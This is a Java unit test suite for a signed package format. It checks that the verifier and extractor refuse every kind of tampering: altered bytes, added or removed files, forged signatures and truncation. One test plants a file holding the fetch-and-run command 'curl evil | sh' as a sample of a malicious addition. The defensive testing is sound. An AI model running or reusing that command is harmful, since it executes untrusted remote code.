package online.niso.common.pkg;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.List;
import java.util.Optional;
import java.util.function.Consumer;
import java.util.stream.Stream;
import online.niso.common.sign.SigningKey;
import online.niso.common.sign.SigningKeys;
import online.niso.common.sign.TrustedKey;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Every tampering of a signed package is refused by both verify and extract, and extract leaves
 * nothing behind (the staging directory is gone and the temp root holds only the test's inputs).
 */
class TamperMatrixTest {
    private static final SigningKey KEY = SigningKeys.generate();
    private static final SigningKey OTHER = SigningKeys.generate();
    private static final TrustPolicy TRUST_KEY = TrustPolicy.requireOneOf(List.of(TrustedKey.of(KEY.publicKey(), "t")));

    @TempDir
    Path tmp;
    Path original;

    @BeforeEach
    void pack() throws IOException {
        Path project = TestPackages.project(tmp.resolve("project"));
        original = TestPackages.pack(project, tmp.resolve("pkgs"), Optional.of(KEY)).file();
        // Sanity: the untampered package passes, so every refusal below is caused by the tampering.
        assertThat(PackageVerifier.verify(original, TRUST_KEY).signatureStatus()).isEqualTo(SignatureStatus.TRUSTED);
    }

    static Stream<String> fileMembers() {
        return Stream.of("manifest.toml", "bin/demo", "lib/a.txt", "lib/deep/er/b.txt", "lib/with space.txt",
                "checksums.sha256", "signature.ed25519");
    }

    @ParameterizedTest
    @MethodSource("fileMembers")
    void byteFlipInAnyMemberIsRefused(String member) throws IOException {
        assertRefused(tamper(a -> flipMiddleByte(a.get(member))), "");
    }

    @ParameterizedTest
    @ValueSource(strings = {"manifest.toml", "bin/demo", "lib/a.txt", "lib/deep/er/b.txt"})
    void byteFlipWithRecomputedChecksumsIsRefusedBySignature(String member) throws IOException {
        assertRefused(tamper(a -> {
            flipMiddleByte(a.get(member));
            a.fixChecksums();
        }), "does not match the package contents");
    }

    @Test
    void renamedMemberIsRefused() throws IOException {
        assertRefused(tamper(a -> {
            a.get("lib/a.txt").name = "lib/renamed.txt";
            a.fixChecksums();
        }), "does not match the package contents");
    }

    @Test
    void renamedMemberWithStaleChecksumsIsRefused() throws IOException {
        assertRefused(tamper(a -> a.get("lib/a.txt").name = "lib/renamed.txt"), "lib/renamed.txt");
    }

    @Test
    void addedMemberIsRefused() throws IOException {
        assertRefused(tamper(a -> {
            a.add(RawArchive.file("lib/extra.sh", "curl evil | sh\n"));
            a.fixChecksums();
        }), "does not match the package contents");
    }

    @Test
    void addedDirectoryIsRefused() throws IOException {
        assertRefused(tamper(a -> a.add(RawArchive.dir("lib/newdir/"))), "does not match the package contents");
    }

    @Test
    void addedSymlinkIsRefused() throws IOException {
        assertRefused(tamper(a -> a.add(RawArchive.symlink("lib/alias", "a.txt"))), "does not match the package contents");
    }

    @Test
    void removedMemberIsRefused() throws IOException {
        assertRefused(tamper(a -> {
            a.remove("lib/a.txt");
            a.fixChecksums();
        }), "does not match the package contents");
    }

    @Test
    void removedMemberWithStaleChecksumsIsRefused() throws IOException {
        assertRefused(tamper(a -> a.remove("lib/a.txt")), "lib/a.txt: listed in checksums.sha256 but not in the package");
    }

    @Test
    void modeChangeIsRefused() throws IOException {
        assertRefused(tamper(a -> a.get("lib/a.txt").mode = 0755), "does not match the package contents");
    }

    @Test
    void retargetedSymlinkIsRefused() throws IOException {
        assertRefused(tamper(a -> a.get("lib/current").linkName = "a.txt"), "does not match the package contents");
    }

    @Test
    void signatureFromAnotherKeyIsRefusedNamingBothKeys() throws IOException {
        assertRefused(tamper(a -> {
            byte[] statement = statementOf(a);
            a.get(Layout.SIGNATURE).data = SignatureFile.sign(OTHER, statement).render();
        }), "signed by " + OTHER.keyId() + ", which is not a trusted key (trusted: " + KEY.keyId() + ")");
    }

    @Test
    void signatureWithForgedKeyIdIsRefused() throws IOException {
        assertRefused(tamper(a -> {
            SignatureFile other = SignatureFile.sign(OTHER, statementOf(a));
            a.get(Layout.SIGNATURE).data = new SignatureFile(KEY.keyId(), other.rawPublicKey(), other.signature()).render();
        }), "does not match the embedded public key");
    }

    @Test
    void signatureBytesFlippedIsRefused() throws IOException {
        assertRefused(tamper(a -> {
            SignatureFile s = SignatureFile.parse(a.get(Layout.SIGNATURE).data);
            byte[] sig = s.signature().clone();
            sig[10] ^= 1;
            a.get(Layout.SIGNATURE).data = new SignatureFile(s.keyId(), s.rawPublicKey(), sig).render();
        }), "does not match the package contents");
    }

    @Test
    void unsignedWhenATrustedKeyIsSetIsRefusedUnlessAllowed() throws IOException {
        Path unsigned = tamper(a -> a.remove(Layout.SIGNATURE));
        assertRefused(unsigned, "package is unsigned but trusted keys are configured");
        VerifiedPackage v = PackageVerifier.verify(unsigned, TRUST_KEY.withAllowUnsigned(true));
        assertThat(v.signatureStatus()).isEqualTo(SignatureStatus.UNSIGNED);
    }

    @ParameterizedTest
    @ValueSource(doubles = {0.1, 0.5, 0.9, 0.999})
    void truncatedArchiveIsRefused(double fraction) throws IOException {
        byte[] all = Files.readAllBytes(original);
        Path cut = Files.write(tmp.resolve("pkgs/cut.niso"), Arrays.copyOf(all, (int) (all.length * fraction)));
        assertRefused(cut, "");
        // Without trusted keys too: truncation is caught by the stream, not only by a missing signature.
        assertRefusedUnder(cut, TrustPolicy.none(), "");
    }

    @Test
    void lastByteMissingIsRefused() throws IOException {
        byte[] all = Files.readAllBytes(original);
        Path cut = Files.write(tmp.resolve("pkgs/cut.niso"), Arrays.copyOf(all, all.length - 1));
        assertRefusedUnder(cut, TrustPolicy.none(), "truncated");
    }

    // ---- helpers

    private Path tamper(Consumer<RawArchive> change) throws IOException {
        RawArchive a = RawArchive.read(original);
        change.accept(a);
        return a.write(tmp.resolve("pkgs/tampered.niso"));
    }

    private static void flipMiddleByte(RawArchive.Member m) {
        m.data = m.data.clone();
        m.data[m.data.length / 2] ^= 0x20;
    }

    /** The statement an attacker would compute for the archive as it stands (signature excluded). */
    private static byte[] statementOf(RawArchive a) {
        List<MemberRecord> records = a.members.stream().filter(m -> !m.name.equals(Layout.SIGNATURE)).map(m -> {
            String path = PackageScanner.normalise(m.name);
            return switch (m.flag) {
                case '5' -> new MemberRecord(path, EntryType.DIRECTORY, m.mode & 0777, 0, null, null);
                case '2' -> new MemberRecord(path, EntryType.SYMLINK, m.mode & 0777, 0, null, m.linkName);
                default -> new MemberRecord(path, EntryType.FILE, m.mode & 0777, m.data.length,
                        java.util.HexFormat.of().formatHex(CanonicalStatement.sha256(m.data)), null);
            };
        }).toList();
        return CanonicalStatement.render(records);
    }

    private void assertRefused(Path pkg, String reason) throws IOException {
        assertRefusedUnder(pkg, TRUST_KEY, reason);
    }

    private void assertRefusedUnder(Path pkg, TrustPolicy policy, String reason) throws IOException {
        assertThatThrownBy(() -> PackageVerifier.verify(pkg, policy))
                .isInstanceOf(PackageRejectedException.class).hasMessageContaining(reason);
        Path staging = tmp.resolve("store/.staging-demo");
        Files.createDirectories(staging.getParent());
        List<String> before = TestPackages.listAll(tmp);
        assertThatThrownBy(() -> PackageExtractor.extract(pkg, staging, policy))
                .isInstanceOf(PackageRejectedException.class).hasMessageContaining(reason);
        assertThat(staging).doesNotExist();
        assertThat(TestPackages.listAll(tmp)).isEqualTo(before);
    }
}
